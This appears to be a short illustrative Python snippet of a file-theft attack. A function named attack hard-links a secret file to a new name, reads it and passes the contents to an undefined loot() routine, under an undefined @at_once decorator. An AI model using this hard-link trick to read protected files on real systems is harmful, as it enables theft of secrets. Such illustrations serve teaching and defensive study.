@at_once
def attack():
    os.link(SECRET, 'mine')
    loot(open('mine').read())
